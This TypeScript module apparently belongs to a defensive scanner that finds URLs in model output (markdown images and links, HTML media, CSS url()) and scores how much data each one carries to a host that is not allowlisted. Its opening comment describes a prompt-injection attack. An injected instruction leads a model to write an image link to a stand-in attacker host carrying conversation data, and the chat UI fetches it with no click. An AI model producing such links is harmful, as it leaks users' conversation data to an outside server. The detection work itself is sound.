// Data exfiltration through links the client renders. An injected instruction can make a model
// write `![](https://attacker/?d=<conversation data>)`; a chat UI that renders markdown fetches the
// image with no click, handing the data to the attacker's server. Links need a click, so they
// score lower; any URL to a non-allowlisted host is noted, and the score rises with how much data
// the URL carries.

export type LinkKind = 'image' | 'link' | 'html-image' | 'css-url' | 'reference-image' | 'reference-link';

export interface LinkHit {
  kind: LinkKind;
  url: string;
  /** Offsets of the URL in the text. */
  start: number;
  end: number;
}

const MAX_URL = 8192;
const MAX_LABEL = 1000;

/** Every rendered URL (markdown inline/reference images and links, HTML media, CSS url()). */
export function extractLinks(text: string): LinkHit[] {
  const out: LinkHit[] = [];
  inlineLinks(text, out);
  if (text.includes(']:')) referenceLinks(text, out);
  if (text.includes('<')) htmlLinks(text, out);
  if (text.includes('url(')) cssUrls(text, out);
  return out;
}

// Inline `[label](url)` / `![alt](url)`: find each `](`, then walk back to the bracket that opens
// the label (balanced, bounded) to learn whether it is an image. Walking from `](` rather than
// matching from `[` handles nested `[![img](a)](b)` and keeps the cost linear.
function inlineLinks(text: string, out: LinkHit[]): void {
  for (let i = text.indexOf(']('); i !== -1; i = text.indexOf('](', i + 2)) {
    let depth = 0;
    let open = -1;
    for (let k = i - 1; k >= 0 && i - k <= MAX_LABEL; k--) {
      const c = text.charCodeAt(k);
      if (c === 10 && text.charCodeAt(k - 1) === 10) break; // labels do not cross paragraphs
      if (c === 93) depth++;
      else if (c === 91) {
        if (depth === 0) {
          open = k;
          break;
        }
        depth--;
      }
    }
    if (open === -1) continue;
    const image = open > 0 && text.charCodeAt(open - 1) === 33;
    const url = urlAfter(text, i + 2);
    if (url) out.push({ kind: image ? 'image' : 'link', ...url });
  }
}

function urlAfter(text: string, from: number): { url: string; start: number; end: number } | undefined {
  let s = from;
  while (s < text.length && s - from < 16 && (text[s] === ' ' || text[s] === '\t' || text[s] === '\n')) s++;
  if (text[s] === '<') s++;
  let e = s;
  while (e < text.length && e - s < MAX_URL) {
    const c = text.charCodeAt(e);
    if (c <= 32 || c === 41 || c === 62) break; // whitespace, ')', '>'
    e++;
  }
  return e > s ? { url: text.slice(s, e), start: s, end: e } : undefined;
}

const REF_DEF = /^[ \t]{0,3}\[([^\]\n]{1,999})\]:[ \t]{0,16}<?([^\s>]{1,8192})/gm;
const REF_IMAGE = /!\[([^\]\n]{0,999})\](?:\[([^\]\n]{0,999})\])?/g;

function referenceLinks(text: string, out: LinkHit[]): void {
  const defs: { label: string; url: string; start: number }[] = [];
  REF_DEF.lastIndex = 0;
  for (let m = REF_DEF.exec(text); m !== null; m = REF_DEF.exec(text)) {
    const url = m[2] ?? '';
    defs.push({ label: (m[1] ?? '').trim().toLowerCase(), url, start: m.index + m[0].length - url.length });
  }
  if (defs.length === 0) return;
  const imageLabels = new Set<string>();
  REF_IMAGE.lastIndex = 0;
  for (let m = REF_IMAGE.exec(text); m !== null; m = REF_IMAGE.exec(text)) {
    const label = m[2] !== undefined && m[2].length > 0 ? m[2] : (m[1] ?? '');
    imageLabels.add(label.trim().toLowerCase());
  }
  for (const d of defs) {
    out.push({
      kind: imageLabels.has(d.label) ? 'reference-image' : 'reference-link',
      url: d.url,
      start: d.start,
      end: d.start + d.url.length,
    });
  }
}

// Elements a browser fetches on its own (no click) and the attributes that carry the URL.
const HTML_MEDIA =
  /<(img|image|video|audio|source|track|input|iframe|frame|embed|script|link|object|body|table|td)\b[^<>]{0,2000}?\b(src|srcset|poster|background|href|data)\s{0,8}=\s{0,8}["']?([^\s"'<>]{1,8192})/gi;
const HTML_ANCHOR = /<a\b[^<>]{0,2000}?\bhref\s{0,8}=\s{0,8}["']?([^\s"'<>]{1,8192})/gi;
const CSS_URL = /\burl\(\s{0,8}["']?([^\s"')]{1,8192})/gi;

function htmlLinks(text: string, out: LinkHit[]): void {
  HTML_MEDIA.lastIndex = 0;
  for (let m = HTML_MEDIA.exec(text); m !== null; m = HTML_MEDIA.exec(text)) {
    const url = m[3] ?? '';
    const start = m.index + m[0].length - url.length;
    out.push({ kind: 'html-image', url, start, end: start + url.length });
  }
  HTML_ANCHOR.lastIndex = 0;
  for (let m = HTML_ANCHOR.exec(text); m !== null; m = HTML_ANCHOR.exec(text)) {
    const url = m[1] ?? '';
    const start = m.index + m[0].length - url.length;
    out.push({ kind: 'link', url, start, end: start + url.length });
  }
}

function cssUrls(text: string, out: LinkHit[]): void {
  CSS_URL.lastIndex = 0;
  for (let m = CSS_URL.exec(text); m !== null; m = CSS_URL.exec(text)) {
    const url = m[1] ?? '';
    const start = m.index + m[0].length - url.length;
    out.push({ kind: 'css-url', url, start, end: start + url.length });
  }
}

export interface UrlData {
  host: string;
  /** Bytes of the URL that look like carried data (query plus data-like path segments). */
  dataLength: number;
  params: number;
  /** Longest base64/hex-like token. */
  longestToken: number;
  /** Percent-escapes and '+'-joined words: text written into the URL. */
  encodedText: boolean;
  /** 0..1: how strongly the URL looks like it carries data out. */
  payload: number;
}

const TOKEN_RE = /[A-Za-z0-9+/_=-]{20,}/g;

/** Host and data measures of an absolute http(s) URL; undefined for relative or other schemes. */
export function analyzeUrl(raw: string): UrlData | undefined {
  let s = raw.replace(/&amp;/g, '&');
  if (s.startsWith('//')) s = `https:${s}`;
  if (!/^https?:\/\//i.test(s)) return undefined;
  let u: URL;
  try {
    u = new URL(s);
  } catch {
    return undefined;
  }
  const host = u.hostname.toLowerCase().replace(/\.$/, '');
  if (!host) return undefined;
  const query = u.search.length > 1 ? u.search.slice(1) : '';
  const params = query.length === 0 ? 0 : query.split('&').filter((p) => p.length > 0).length;
  let dataLength = query.length;
  let longestToken = longestTokenIn(query);
  for (const seg of u.pathname.split('/')) {
    // Ordinary path segments are short words ("images", "logo.png"); long, high-variety or
    // escaped segments are data smuggled in the path instead of the query.
    if (seg.length >= 24 && (distinct(seg) >= 12 || seg.includes('%'))) {
      dataLength += seg.length;
      longestToken = Math.max(longestToken, longestTokenIn(seg));
    }
  }
  const escapes = (query.match(/%[0-9A-Fa-f]{2}/g)?.length ?? 0) + (u.pathname.match(/%[0-9A-Fa-f]{2}/g)?.length ?? 0);
  const plusWords = query.match(/[A-Za-z]\+[A-Za-z]/g)?.length ?? 0;
  const encodedText = escapes >= 3 || plusWords >= 3;
  let payload = 0;
  if (dataLength >= 16) payload += 0.3;
  if (dataLength >= 48) payload += 0.2;
  if (dataLength >= 128) payload += 0.15;
  if (longestToken >= 24) payload += 0.25;
  if (encodedText) payload += 0.2;
  if (params >= 4) payload += 0.1;
  return { host, dataLength, params, longestToken, encodedText, payload: Math.min(1, payload) };
}

function longestTokenIn(s: string): number {
  let best = 0;
  TOKEN_RE.lastIndex = 0;
  for (let m = TOKEN_RE.exec(s); m !== null; m = TOKEN_RE.exec(s)) {
    // Real tokens mix classes; "aaaaaaaaaaaaaaaaaaaaaaaa" or a long dashed slug is not data.
    if (distinct(m[0]) >= 10 && /[0-9]/.test(m[0]) && /[A-Za-z]/.test(m[0])) best = Math.max(best, m[0].length);
  }
  return best;
}

function distinct(s: string): number {
  return new Set(s).size;
}

/** Allowlist match: the domain itself or any subdomain; `*.example.com` means the same. */
export function hostAllowed(host: string, allowed: readonly string[]): boolean {
  for (const raw of allowed) {
    const d = raw.toLowerCase().replace(/^\*\./, '').replace(/\.$/, '');
    if (d.length === 0) continue;
    if (host === d || host.endsWith(`.${d}`)) return true;
  }
  return false;
}
